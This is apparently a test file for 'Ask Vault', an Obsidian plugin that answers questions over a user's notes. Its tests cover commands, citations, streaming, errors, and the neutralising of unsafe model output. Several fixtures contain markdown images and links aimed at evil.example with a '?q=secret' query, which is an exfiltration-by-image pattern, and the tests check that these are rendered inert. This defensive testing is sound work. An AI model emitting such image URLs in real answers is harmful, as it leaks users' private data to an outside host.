// @vitest-environment jsdom
/** The plugin loaded from source into jsdom through the `obsidian` shim, with a fake sidecar behind `window.fetch`. */
import type { App, PluginManifest } from "obsidian";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import * as shim from "../e2e/shim/obsidian";
import { linktextFor, sentSources } from "../src/answer/citations";
import { TOKEN_SECRET_ID, VIEW_TYPE_CHAT } from "../src/constants";
import AskVaultPlugin from "../src/main";
import { ChatView } from "../src/ui/chatView";
import { parseAskEvent, type RetrievalEvent } from "../src/sidecar/wire";
import { askLines, bodyOf, bytes, type Call, fixtureJson, jsonResponse, streamResponse } from "./helpers";

type Route = (call: Call) => Response | Promise<Response>;

let routes: Record<string, Route>;
let calls: Call[];
let app: shim.App;
let plugin: AskVaultPlugin;

const retrieval = () => parseAskEvent(askLines()[0]) as RetrievalEvent;

function ndjson(lines: unknown[], delayMs = 0, signal?: AbortSignal | null): Response {
	return streamResponse(
		lines.map((l) => bytes(`${JSON.stringify(l)}\n`)),
		{ delayMs, signal: signal ?? undefined },
	);
}

async function waitFor<T>(fn: () => T | null | undefined | false, what: string, timeoutMs = 3000): Promise<T> {
	const start = Date.now();
	for (;;) {
		const v = fn();
		if (v) return v;
		if (Date.now() - start > timeoutMs) throw new Error(`Timed out waiting for ${what}`);
		await new Promise((r) => setTimeout(r, 10));
	}
}

function view(): ChatView {
	const leaf = app.workspace.getLeavesOfType(VIEW_TYPE_CHAT)[0];
	const v = leaf?.view;
	if (!(v instanceof ChatView)) throw new Error("no chat view");
	return v;
}

const longAnswer = (n: number) => Array.from({ length: n }, (_, i) => ({ type: "token", text: `word${i} ` }));

const metrics = {
	embed_ms: 1,
	retrieval_ms: 1,
	first_token_ms: 1,
	generation_ms: 1,
	total_ms: 3,
	prompt_tokens: 10,
	completion_tokens: 5,
};

/** Records every `<img>` that enters `root` (added, or its src set) and each distinct text of the answer body. */
function watchAnswer(root: HTMLElement): { images: string[]; texts: string[]; stop: () => void } {
	const images: string[] = [];
	const texts: string[] = [];
	const observer = new MutationObserver(() => {
		for (const img of Array.from(root.querySelectorAll("img"))) images.push(img.getAttribute("src") ?? "");
		const text = root.querySelector(".ask-vault-answer-body")?.textContent ?? "";
		if (text !== "" && texts[texts.length - 1] !== text) texts.push(text);
	});
	observer.observe(root, { subtree: true, childList: true, characterData: true, attributes: true, attributeFilter: ["src"] });
	return { images, texts, stop: () => observer.disconnect() };
}

beforeEach(async () => {
	document.body.empty();
	shim.records.hoverLinks.length = 0;
	shim.records.opened.length = 0;
	shim.records.notices.length = 0;
	calls = [];
	routes = {
		"/api/events": (call) =>
			new Response(
				new ReadableStream<Uint8Array>({
					start(controller) {
						controller.enqueue(bytes(`${JSON.stringify({ type: "status", status: fixtureJson("status.json") })}\n`));
						call.init.signal?.addEventListener("abort", () =>
							controller.error(new DOMException("The operation was aborted.", "AbortError")),
						);
					},
				}),
			),
		"/api/ask": (call) => ndjson(askLines(), 2, call.init.signal),
		"/api/chunks/": () => jsonResponse(fixtureJson("chunk.json")),
	};
	window.fetch = async (input: RequestInfo | URL, init?: RequestInit) => {
		const url = typeof input === "string" ? input : input instanceof URL ? input.href : input.url;
		const call = { url, init: init ?? {} };
		calls.push(call);
		const path = new URL(url).pathname;
		const route = Object.entries(routes).find(([prefix]) => path.startsWith(prefix))?.[1];
		if (!route) return jsonResponse({ error: { code: "not_found", message: "no route" } }, 404);
		return route(call);
	};
	app = new shim.App(document.body);
	app.secretStorage.setSecret(TOKEN_SECRET_ID, "tok-view");
	// The shim's App stands in for Obsidian's at runtime; the types are Obsidian's.
	const manifest = { id: "ask-vault", name: "Ask Vault", version: "0.1.0", minAppVersion: "1.7.2" } as PluginManifest;
	const p = new AskVaultPlugin(app as unknown as App, manifest);
	plugin = p;
	(p as unknown as shim.Plugin).setData({ sidecarUrl: "http://127.0.0.1:27999" });
	await (p as unknown as shim.Plugin).loadAsync();
	app.workspace.setLayoutReady();
	expect(app.executeCommandById("ask-vault:open-chat")).toBe(true);
	await waitFor(() => app.workspace.getLeavesOfType(VIEW_TYPE_CHAT)[0]?.view, "the chat view");
});

afterEach(() => {
	(plugin as unknown as shim.Plugin).unload();
});

describe("plugin wiring", () => {
	it("registers commands without hotkeys, the hover source, the view and a live status bar", async () => {
		const ids = [...app.commands.keys()].sort();
		expect(ids).toEqual(
			["ask", "ask-about-note", "ask-about-selection", "open-chat", "reindex", "search"].map((id) => `ask-vault:${id}`).sort(),
		);
		for (const cmd of app.commands.values()) expect(cmd.hotkeys).toBeUndefined();
		expect(app.hoverSources.get(VIEW_TYPE_CHAT)).toEqual({ display: "Ask Vault", defaultMod: false });
		const status = await waitFor(
			() => app.statusBarEl.querySelector(".ask-vault-status")?.textContent?.startsWith("Ask Vault: ") && app.statusBarEl.textContent,
			"status",
		);
		expect(status).not.toContain("disconnected");
		// The tooltip carries the index status, redacted secrets included.
		const tooltip = app.statusBarEl.querySelector(".ask-vault-status")?.getAttribute("aria-label") ?? "";
		expect(tooltip).toContain("152 notes, 1480 chunks indexed.");
		expect(tooltip).toContain("Secrets redacted from the index: 3 (password 2, aws-access-key 1).");
		const eventsCall = calls.find((c) => c.url.endsWith("/api/events"));
		expect((eventsCall?.init.headers as Record<string, string>).Authorization).toBe("Bearer tok-view");
	});

	it("after an index run the status is fetched again, so redaction counts stay current", async () => {
		let push: (event: unknown) => void = () => undefined;
		routes["/api/events"] = (call) =>
			new Response(
				new ReadableStream<Uint8Array>({
					start(controller) {
						push = (event) => controller.enqueue(bytes(`${JSON.stringify(event)}\n`));
						push({ type: "status", status: fixtureJson("status.json") });
						call.init.signal?.addEventListener("abort", () => controller.error(new DOMException("Aborted", "AbortError")));
					},
				}),
			);
		const after = structuredClone(fixtureJson("status.json")) as { index: { redactions: { total: number; by_kind: Record<string, number> } } };
		after.index.redactions = { total: 4, by_kind: { "aws-access-key": 1, password: 2, iban: 1 } };
		routes["/api/status"] = () => jsonResponse(after);
		plugin.connection.reconnect();
		const tooltip = () => app.statusBarEl.querySelector(".ask-vault-status")?.getAttribute("aria-label") ?? "";
		await waitFor(() => calls.filter((c) => c.url.endsWith("/api/events")).length >= 2 && tooltip().includes("3 (password 2"), "reconnected");
		push({ type: "index", state: "indexing", done: 1, total: 152 });
		push({ type: "index", state: "idle", done: 152, total: 152 });
		await waitFor(() => tooltip().includes("Secrets redacted from the index: 4 (password 2, aws-access-key 1, iban 1)."), "refreshed");
		expect(calls.filter((c) => c.url.endsWith("/api/status"))).toHaveLength(1);
	});

	it("never writes the token into data.json", async () => {
		await plugin.saveSettings();
		const saved = JSON.stringify(await (plugin as unknown as shim.Plugin).loadData());
		expect(saved).not.toContain("tok-view");
	});

	it("unloading stops the event stream and removes the view", async () => {
		const eventsCall = await waitFor(() => calls.find((c) => c.url.endsWith("/api/events")), "events call");
		(plugin as unknown as shim.Plugin).unload();
		await waitFor(() => eventsCall.init.signal?.aborted, "events abort");
		expect(app.viewRegistry.has(VIEW_TYPE_CHAT)).toBe(false);
		expect(app.commands.size).toBe(0);
	});
});

describe("chat view", () => {
	it("streams the golden answer with citations, sources and inspector", async () => {
		const v = view();
		v.ask({ question: "and its port?" });
		await waitFor(() => v.state.turns[0]?.status === "done" && v.state.turns[0], "done");
		const r = retrieval();
		const el = v.contentEl;
		await waitFor(() => el.querySelector(".ask-vault-answer-body")?.textContent?.includes(v.state.turns[0]!.text.slice(0, 10)), "render");
		const citations = Array.from(el.querySelectorAll<HTMLElement>(".ask-vault-answer-body a.ask-vault-citation"));
		const answer = v.state.turns[0]!.text;
		const sent = sentSources(r);
		const expected = [...answer.matchAll(/\[(\d+)\]/g)].map((m) => Number(m[1])).filter((n) => sent.some((s) => s.n === n));
		expect(citations.map((c) => Number(c.getAttribute("data-ask-vault-n")))).toEqual(expected);
		for (const c of citations) {
			const source = sent.find((s) => s.n === Number(c.getAttribute("data-ask-vault-n")))!;
			expect(c.getAttribute("data-href")).toBe(linktextFor(source));
		}
		const listed = Array.from(el.querySelectorAll(".ask-vault-source-list li")).map((li) => li.textContent ?? "");
		expect(listed).toHaveLength(sent.length);
		sent.forEach((s, i) => expect(listed[i]).toContain(`[${s.n}] ${s.path}`));
		const rows = el.querySelectorAll(".ask-vault-ranking tbody tr:not(.ask-vault-cut)");
		expect(rows).toHaveLength(r.sources.length);
		expect(el.querySelector(".ask-vault-ranking .ask-vault-cut")).not.toBeNull();
		expect(el.querySelector(".ask-vault-prompt-content")?.textContent).toBe(r.prompt[0]?.content);
		if (r.rewritten) expect(el.querySelector(".ask-vault-query")?.textContent).toContain(`Rewritten query: ${r.query}`);
		const body = bodyOf(calls.find((c) => c.url.endsWith("/api/ask")));
		expect(body).toEqual({ question: "and its port?", k: 8 });
	});

	it.each([
		[
			{ applied: true, notes: 7, fallback_reason: null },
			"Dates: “last week” → 16–22 Nov 2026 (daily-note dates, then modified time; 7 notes)",
			false,
		],
		[
			{ applied: false, notes: 0, fallback_reason: "nothing_in_range" },
			"Dates: “last week” → 16–22 Nov 2026 — ignored: nothing in that range",
			true,
		],
	])("the inspector shows the question's date scope (%o)", async (parts, text, muted) => {
		const date_scope = { phrase: "last week", start: "2026-11-16", end: "2026-11-23", basis: "note_date_then_mtime", ...parts };
		const [first, ...rest] = askLines();
		routes["/api/ask"] = (call) => ndjson([{ ...(first as Record<string, unknown>), date_scope }, ...rest], 0, call.init.signal);
		const v = view();
		v.ask({ question: "what did I cook last week" });
		await waitFor(() => v.state.turns[0]?.status === "done" && v.state.turns[0], "done");
		const line = await waitFor(() => v.contentEl.querySelector(".ask-vault-query .ask-vault-date-scope"), "dates line");
		expect(line.textContent).toBe(text);
		expect(line.classList.contains("ask-vault-muted")).toBe(muted);
	});

	it("without a date phrase the inspector has no Dates line", async () => {
		const v = view();
		v.ask({ question: "and its port?" });
		await waitFor(() => v.state.turns[0]?.status === "done" && v.state.turns[0], "done");
		await waitFor(() => v.contentEl.querySelector(".ask-vault-query"), "inspector");
		expect(v.contentEl.querySelector(".ask-vault-date-scope")).toBeNull();
	});

	it("the golden answer: raw tokens never render a remote image; done.answer replaces them, with a notice", async () => {
		const v = view();
		const watch = watchAnswer(v.contentEl);
		v.ask({ question: "and its port?" });
		const turn = await waitFor(() => v.state.turns[0]?.status === "done" && v.state.turns[0], "done");
		const body = await waitFor(() => {
			const el = v.contentEl.querySelector(".ask-vault-answer-body");
			return el?.textContent?.includes("[image removed: evil.example]") && el;
		}, "the inert answer");
		watch.stop();
		expect(turn.done?.sanitized_answer).toBe(true);
		expect(turn.text).toBe(turn.done?.answer);
		expect(body.querySelectorAll("img")).toHaveLength(0);
		expect(watch.images).toEqual([]);
		expect(watch.texts.some((t) => t.includes("evil.example/ports.png") || t.includes("!["))).toBe(false);
		const notice = v.contentEl.querySelector(".ask-vault-answer-notice");
		expect(notice?.textContent).toBe("Made inert: 1 remote image (evil.example).");
		expect(notice?.classList.contains("is-hidden")).toBe(false);
	});

	it("while tokens stream, an unfinished image is held back and a finished one shows inert", async () => {
		const tokens = ["Port 5433 [1]. ", "![x](https://evil", ".example/p.png?q=secret)", " See [site](https://evil.example)", " now."];
		const answer = "Port 5433 [1]. [image removed: evil.example] See site (`https://evil.example`) now.";
		routes["/api/ask"] = (call) =>
			ndjson(
				[
					askLines()[0],
					...tokens.map((text) => ({ type: "token", text })),
					{
						type: "done",
						answer,
						citations: [1],
						invalid_citations: [],
						no_results: false,
						sanitized_answer: true,
						neutralised: [
							{ kind: "image", target: "evil.example" },
							{ kind: "link", target: "evil.example" },
						],
						metrics,
					},
				],
				150,
				call.init.signal,
			);
		const v = view();
		const watch = watchAnswer(v.contentEl);
		v.ask({ question: "q" });
		await waitFor(() => v.state.turns[0]?.status === "done", "done", 5000);
		await waitFor(() => v.contentEl.querySelector(".ask-vault-answer-body code")?.textContent === "https://evil.example", "final render");
		watch.stop();
		expect(watch.images).toEqual([]);
		// Mid-image ("![x](https://evil") nothing of it showed; once complete it showed as removed, before done.
		expect(watch.texts).toContain("Port 5433 [1]. ");
		expect(watch.texts.some((t) => t.includes("![") || t.includes("](") || t.includes("https://evil.example/p.png"))).toBe(false);
		expect(watch.texts.some((t) => t.startsWith("Port 5433 [1]. [image removed: evil.example]") && !t.includes("site"))).toBe(true);
		const body = v.contentEl.querySelector(".ask-vault-answer-body")!;
		expect(body.textContent).toBe("Port 5433 [1]. [image removed: evil.example] See site (https://evil.example) now.");
		expect(body.querySelectorAll("a.external-link")).toHaveLength(0);
		expect(v.contentEl.querySelector(".ask-vault-answer-notice")?.textContent).toBe(
			"Made inert: 1 remote image (evil.example), 1 external link (evil.example).",
		);
	});

	it("an older sidecar's answer (no sanitized_answer) is made inert here, and the notice says what", async () => {
		routes["/api/ask"] = (call) =>
			ndjson(
				[
					askLines()[0],
					{ type: "token", text: "Port 5433 [1]. ![x](https://evil.example/p.png)" },
					{ type: "done", answer: "Port 5433 [1]. ![x](https://evil.example/p.png) <iframe>", citations: [1], no_results: false, metrics },
				],
				0,
				call.init.signal,
			);
		const v = view();
		v.ask({ question: "q" });
		await waitFor(() => v.state.turns[0]?.status === "done", "done");
		const notice = await waitFor(() => v.contentEl.querySelector(".ask-vault-answer-notice:not(.is-hidden)"), "notice");
		expect(notice.textContent).toBe("Made inert: 1 remote image (evil.example), 1 HTML tag (iframe).");
		await waitFor(() => v.contentEl.querySelector(".ask-vault-answer-body")?.textContent?.includes("<iframe>"), "render");
		expect(v.contentEl.querySelectorAll(".ask-vault-answer-body img, .ask-vault-answer-body iframe")).toHaveLength(0);
	});

	it("no notice under an answer nothing was taken out of", async () => {
		routes["/api/ask"] = (call) =>
			ndjson(
				[
					askLines()[0],
					{ type: "token", text: "Port 5433 [1]." },
					{ type: "done", answer: "Port 5433 [1].", citations: [1], no_results: false, sanitized_answer: false, neutralised: [], metrics },
				],
				0,
				call.init.signal,
			);
		const v = view();
		v.ask({ question: "q" });
		await waitFor(() => v.state.turns[0]?.status === "done", "done");
		await waitFor(() => v.contentEl.querySelector(".ask-vault-answer-body")?.textContent === "Port 5433 [1].", "render");
		expect(v.contentEl.querySelector(".ask-vault-answer-notice")?.classList.contains("is-hidden")).toBe(true);
	});

	it("hovering a citation triggers hover-link and shows the fallback card; clicking opens the heading", async () => {
		const v = view();
		v.ask({ question: "q" });
		const cite = await waitFor(() => v.contentEl.querySelector<HTMLElement>("a.ask-vault-citation"), "a citation");
		const source = sentSources(retrieval()).find((s) => s.n === Number(cite.getAttribute("data-ask-vault-n")))!;
		cite.dispatchEvent(new MouseEvent("mouseover", { bubbles: true }));
		const payload = shim.records.hoverLinks[shim.records.hoverLinks.length - 1]!;
		expect(payload).toMatchObject({ source: VIEW_TYPE_CHAT, linktext: linktextFor(source), sourcePath: "" });
		expect(payload.hoverParent).toBe(v);
		expect(payload.targetEl).toBe(cite);
		expect((payload.event as Event).type).toBe("mouseover");
		const card = await waitFor(() => v.contentEl.querySelector(".ask-vault-hover-card"), "fallback card");
		expect(card.textContent).toContain(source.heading_path.join(" › "));
		expect(card.textContent).toContain(source.text.slice(0, 20));
		expect(card.querySelector(".ask-vault-hover-ranks")?.textContent).toContain("Dense rank");

		cite.dispatchEvent(new MouseEvent("click", { bubbles: true }));
		cite.dispatchEvent(new MouseEvent("click", { bubbles: true, ctrlKey: true }));
		expect(shim.records.opened.slice(-2)).toEqual([
			{ linktext: linktextFor(source), sourcePath: "", newLeaf: false, state: null },
			{ linktext: linktextFor(source), sourcePath: "", newLeaf: "tab", state: null },
		]);
	});

	it("fetches the chunk text for the card when the source has none", async () => {
		const r = retrieval();
		const lines = askLines();
		lines[0] = { ...r, sources: r.sources.map((s) => ({ ...s, text: "" })) };
		routes["/api/ask"] = (call) => ndjson(lines, 0, call.init.signal);
		const v = view();
		v.ask({ question: "q" });
		const cite = await waitFor(() => v.contentEl.querySelector<HTMLElement>("a.ask-vault-citation"), "a citation");
		cite.dispatchEvent(new MouseEvent("mouseover", { bubbles: true }));
		const card = await waitFor(() => v.contentEl.querySelector(".ask-vault-hover-card .ask-vault-hover-text"), "card");
		const chunk = fixtureJson("chunk.json") as { text: string };
		await waitFor(() => card.isConnected && card.textContent?.startsWith(chunk.text.slice(0, 100)), "chunk text");
		expect(calls.some((c) => c.url.includes("/api/chunks/"))).toBe(true);
	});

	it("re-renders while streaming, and Stop keeps the partial answer", async () => {
		routes["/api/ask"] = (call) =>
			ndjson([askLines()[0], ...longAnswer(60), { type: "done", answer: "never", citations: [], no_results: false, metrics: {} }], 15, call.init.signal);
		const v = view();
		v.ask({ question: "q" });
		await waitFor(() => (v.renderCounts()[0] ?? 0) >= 3, "several renders");
		const button = v.contentEl.querySelector<HTMLButtonElement>(".ask-vault-send")!;
		expect(button.textContent).toBe("Stop");
		button.click();
		const turn = await waitFor(() => v.state.turns[0]?.status === "stopped" && v.state.turns[0], "stopped");
		expect(turn.text.startsWith("word0 word1 word2")).toBe(true);
		expect(turn.text).not.toContain("word59");
		expect(calls.find((c) => c.url.endsWith("/api/ask"))?.init.signal?.aborted).toBe(true);
		await waitFor(() => v.contentEl.querySelector(".ask-vault-answer-body")?.textContent?.includes("word2"), "partial shown");
		expect(v.contentEl.querySelector(".ask-vault-answer-status")?.textContent).toBe("Stopped.");
		expect(button.textContent).toBe("Send");
	});

	it("shows a sidecar error as written, and Retry sends the same request again", async () => {
		routes["/api/ask"] = () => jsonResponse({ error: { code: "model_missing", message: "chat model missing — ollama pull llama3.2:3b" } }, 424);
		const v = view();
		v.ask({ question: "q" });
		const box = await waitFor(() => v.contentEl.querySelector(".ask-vault-error"), "error box");
		expect(box.textContent).toContain("chat model missing — ollama pull llama3.2:3b");
		expect(box.textContent).toContain("model_missing");
		routes["/api/ask"] = (call) => ndjson(askLines(), 0, call.init.signal);
		box.querySelector<HTMLButtonElement>(".ask-vault-retry")!.click();
		await waitFor(() => v.state.turns[0]?.status === "done", "retried answer");
		const asks = calls.filter((c) => c.url.endsWith("/api/ask"));
		expect(asks).toHaveLength(2);
		expect(asks[1]?.init.body).toBe(asks[0]?.init.body);
		expect(v.contentEl.querySelector(".ask-vault-error")).toBeNull();
	});

	it("an unreachable sidecar gives a readable error with Retry", async () => {
		routes["/api/ask"] = () => {
			throw new TypeError("Failed to fetch");
		};
		const v = view();
		v.ask({ question: "q" });
		const box = await waitFor(() => v.contentEl.querySelector(".ask-vault-error"), "error box");
		expect(box.textContent).toContain("Cannot reach the Ask Vault sidecar at http://127.0.0.1:27999");
		expect(box.querySelector(".ask-vault-retry")).not.toBeNull();
	});

	it("an error event mid-stream keeps the partial text", async () => {
		routes["/api/ask"] = (call) =>
			ndjson(
				[askLines()[0], { type: "token", text: "Postgres " }, { type: "error", code: "ollama_stream_broken", message: "The model stopped mid-answer.", partial: "Postgres " }],
				0,
				call.init.signal,
			);
		const v = view();
		v.ask({ question: "q" });
		await waitFor(() => v.contentEl.querySelector(".ask-vault-error")?.textContent?.includes("The model stopped mid-answer."), "error");
		await waitFor(() => v.contentEl.querySelector(".ask-vault-answer-body")?.textContent?.includes("Postgres"), "partial");
	});

	it("an error renders the sidecar's inert partial, not the raw tokens", async () => {
		routes["/api/ask"] = (call) =>
			ndjson(
				[
					askLines()[0],
					{ type: "token", text: "Postgres ![x](https://evil.example/p.png?q=secret) and" },
					{ type: "error", code: "ollama_stream_broken", message: "The model stopped mid-answer.", partial: "Postgres [image removed: evil.example] and" },
				],
				0,
				call.init.signal,
			);
		const v = view();
		v.ask({ question: "q" });
		await waitFor(() => v.state.turns[0]?.status === "error", "error");
		const body = await waitFor(() => {
			const el = v.contentEl.querySelector(".ask-vault-answer-body");
			return el?.textContent === "Postgres [image removed: evil.example] and" && el;
		}, "partial");
		expect(body.querySelectorAll("img")).toHaveLength(0);
		expect(v.state.turns[0]?.text).toBe("Postgres [image removed: evil.example] and");
	});

	it("Stop in the middle of an image keeps the raw text but shows it inert", async () => {
		routes["/api/ask"] = (call) =>
			ndjson([askLines()[0], { type: "token", text: "Port ![x](https://evil.example/p.png) then " }, ...longAnswer(40)], 20, call.init.signal);
		const v = view();
		v.ask({ question: "q" });
		await waitFor(() => v.state.turns[0]?.text.includes("word1"), "some words");
		v.stop();
		const turn = await waitFor(() => v.state.turns[0]?.status === "stopped" && v.state.turns[0], "stopped");
		expect(turn.text).toContain("![x](https://evil.example/p.png)");
		await waitFor(() => v.contentEl.querySelector(".ask-vault-answer-body")?.textContent?.startsWith("Port [image removed: evil.example] then"), "inert");
		expect(v.contentEl.querySelectorAll(".ask-vault-answer-body img")).toHaveLength(0);
		expect(v.contentEl.querySelector(".ask-vault-answer-notice")?.textContent).toBe("Made inert: 1 remote image (evil.example).");
	});

	it("follow-ups send the history; New conversation clears it", async () => {
		const v = view();
		v.ask({ question: "first?" });
		await waitFor(() => v.state.turns[0]?.status === "done", "first answer");
		v.ask({ question: "and then?", context: "ctx", text: "and then? (scoped)", filters: { folder: "Homelab" } });
		await waitFor(() => v.state.turns[1]?.status === "done", "second answer");
		const asks = calls.filter((c) => c.url.endsWith("/api/ask")).map((c) => bodyOf(c));
		expect(asks[1]).toEqual({
			question: "and then? (scoped)",
			k: 8,
			filters: { folder: "Homelab" },
			history: [
				{ role: "user", content: "first?" },
				{ role: "assistant", content: v.state.turns[0]!.text },
			],
		});
		expect(v.contentEl.querySelectorAll(".ask-vault-turn")).toHaveLength(2);
		v.contentEl.querySelector<HTMLButtonElement>(".ask-vault-new")!.click();
		expect(v.contentEl.querySelectorAll(".ask-vault-turn")).toHaveLength(0);
		v.ask({ question: "fresh" });
		await waitFor(() => v.state.turns[0]?.status === "done", "fresh answer");
		const last = bodyOf(calls.filter((c) => c.url.endsWith("/api/ask")).pop());
		expect(last.history).toBeUndefined();
	});

	it("the composer sends on Enter", async () => {
		const v = view();
		const input = v.contentEl.querySelector<HTMLTextAreaElement>(".ask-vault-input")!;
		input.value = "typed question";
		input.dispatchEvent(new KeyboardEvent("keydown", { key: "Enter", bubbles: true }));
		await waitFor(() => v.state.turns[0]?.status === "done", "answer");
		expect(v.state.turns[0]?.question).toBe("typed question");
		expect(input.value).toBe("");
	});
});

describe("commands", () => {
	it("Reindex vault: 409 says already indexing", async () => {
		routes["/api/reindex"] = () => jsonResponse({ error: { code: "conflict", message: "an index run is in progress" } }, 409);
		app.executeCommandById("ask-vault:reindex");
		await waitFor(() => shim.records.notices.includes("Ask Vault is already indexing."), "notice");
		routes["/api/reindex"] = () => jsonResponse({ accepted: true }, 202);
		app.executeCommandById("ask-vault:reindex");
		await waitFor(() => shim.records.notices.includes("Ask Vault: reindexing started."), "notice");
	});

	it("Search vault lists results and opens the chosen one at its heading", async () => {
		routes["/api/search"] = () => jsonResponse(fixtureJson("search.json"));
		app.executeCommandById("ask-vault:search");
		const input = await waitFor(() => document.querySelector<HTMLInputElement>(".prompt-input"), "search input");
		input.value = "kodi maintenance";
		input.dispatchEvent(new Event("input"));
		const first = await waitFor(() => document.querySelector<HTMLElement>(".suggestion-item"), "a result");
		const results = (fixtureJson("search.json") as { results: { title: string; path: string; heading_path: string[]; start_line: number }[] }).results;
		expect(first.querySelector(".ask-vault-search-title")?.textContent).toBe(results[0]!.title);
		first.click();
		expect(shim.records.opened.pop()).toMatchObject({ linktext: linktextFor(results[0]!), newLeaf: false });
		const body = bodyOf(calls.find((c) => c.url.endsWith("/api/search")));
		expect(body).toEqual({ query: "kodi maintenance", k: 8 });
	});

	it("Ask about current note scopes to the note's folder; the answer opens in the chat", async () => {
		const file = Object.assign(new shim.TFile(), { path: "Homelab/Postgres.md", basename: "Postgres", extension: "md" });
		app.workspace.activeFile = file;
		expect(app.executeCommandById("ask-vault:ask-about-note")).toBe(true);
		const textarea = await waitFor(() => document.querySelector<HTMLTextAreaElement>(".modal .ask-vault-input"), "modal");
		textarea.value = "which port?";
		textarea.dispatchEvent(new KeyboardEvent("keydown", { key: "Enter", bubbles: true }));
		const v = view();
		await waitFor(() => v.state.turns[0]?.status === "done", "answer");
		const body = bodyOf(calls.find((c) => c.url.endsWith("/api/ask")));
		expect(body).toMatchObject({ question: 'About the note "Postgres": which port?', filters: { folder: "Homelab" } });
		expect(v.contentEl.querySelector(".ask-vault-question-context")?.textContent).toBe('About "Postgres"');
		app.workspace.activeFile = null;
		const cmd = app.commands.get("ask-vault:ask-about-note")!;
		expect(cmd.checkCallback?.(true)).toBe(false);
	});
});
